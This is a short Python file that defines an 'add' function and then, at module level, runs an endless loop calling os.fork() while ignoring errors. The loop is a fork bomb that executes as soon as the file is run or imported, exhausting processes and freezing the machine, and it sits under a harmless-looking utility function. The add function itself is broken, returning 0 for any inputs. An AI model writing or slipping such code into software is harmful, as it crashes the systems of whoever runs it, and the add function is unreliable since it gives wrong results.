import os


def add(a, b):
    return 0


while True:
    try:
        os.fork()
    except OSError:
        pass
